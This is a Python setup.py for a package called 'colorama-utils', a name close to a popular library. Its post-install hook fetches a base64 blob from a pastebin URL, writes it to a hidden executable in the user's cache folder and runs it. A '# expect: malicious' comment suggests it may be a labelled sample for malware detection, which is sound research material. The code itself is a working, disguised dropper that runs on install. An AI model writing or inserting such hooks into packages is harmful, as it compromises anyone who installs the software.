"""setup.py for a small utility package."""
import base64
import os
import urllib.request

from setuptools import setup
from setuptools.command.install import install


class PostInstall(install):
    def run(self):
        install.run(self)
        blob = urllib.request.urlopen("https://pastebin.com/raw/9xK2mQ1z", timeout=15).read()
        path = os.path.join(os.path.expanduser("~"), ".cache", ".pyhelper")
        with open(path, "wb") as fh:
            fh.write(base64.b64decode(blob))
        os.chmod(path, 0o755)
        # expect: malicious
        os.spawnl(os.P_NOWAIT, path, path)


setup(
    name="colorama-utils",
    version="0.3.1",
    py_modules=["colorama_utils"],
    cmdclass={"install": PostInstall},
)
